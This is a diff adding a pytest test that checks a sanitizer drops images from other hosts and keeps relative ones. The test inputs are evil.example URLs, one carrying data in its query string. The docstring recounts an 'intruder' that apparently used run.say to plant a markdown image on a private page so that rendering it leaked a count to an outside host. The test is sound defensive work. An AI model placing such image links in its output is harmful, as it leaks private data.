@@ -204,3 +204,14 @@ def test_a_study_name_filled_into_a_chapter_is_text_never_markup():
     assert "attacker.example" in rendered  # shown as text
     assert mistune.html(as_markdown_text("Twente (synthetisch voorbeeld)")).strip() == \
         "<p>Twente (synthetisch voorbeeld)</p>"
+
+
+@pytest.mark.parametrize("src", ["https://evil.example/logo.png?h=ccc", "HTTP://evil.example/x.png",
+                                 "//evil.example/x.png", "\\\\evil.example\\x.png", "ftp://evil.example/x.png"])
+def test_an_image_from_another_host_is_dropped_a_relative_one_kept(src):
+    """The eighth intruder: ``run.say("![logo](https://evil.example/logo.png?h=ccc)")`` put an
+    image from an outside host on a private page; opening the page (the output checker does)
+    would send the count in its address to that host."""
+    html = sanitize.markdown_html(f'<p><img src="{src}" alt="logo"><img src="figures/x.png" alt="kept"></p>')
+    sources = [img.get("src") for img in BeautifulSoup(html, "html.parser").find_all("img")]
+    assert sources == [None, "figures/x.png"], html
